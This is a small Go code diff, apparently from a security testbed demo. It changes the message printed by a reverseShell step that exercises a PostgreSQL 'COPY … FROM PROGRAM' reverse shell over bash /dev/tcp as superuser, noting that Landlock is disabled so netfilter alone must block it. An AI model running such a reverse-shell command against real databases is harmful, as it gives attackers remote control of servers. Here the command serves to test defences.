@@ -126,7 +126,7 @@ func (d *demo) program(ctx context.Context, command string) error {
 func (d *demo) reverseShell(ctx context.Context) error {
 	_, h := d.in.Primary()
 	sibling := d.in.Sibling()
-	fmt.Fprintf(d.out, "   COPY … FROM PROGRAM 'bash -i >& /dev/tcp/%v/%d 0>&1', as superuser on %s, and the same over IPv6\n", sibling.V4(), shellPort, h.Name())
+	fmt.Fprintf(d.out, "   COPY … FROM PROGRAM 'bash -i >& /dev/tcp/%v/%d 0>&1', as superuser on %s, and the same over IPv6.\n   Landlock, which would deny the shell, is switched off, so that netfilter has to do alone\n", sibling.V4(), shellPort, h.Name())
 	wire, err := sibling.Capture(func(p testbed.Packet) bool { return !p.Out && p.Proto == testbed.ProtoTCP && p.DstPort == shellPort })
 	if err != nil {
 		return err
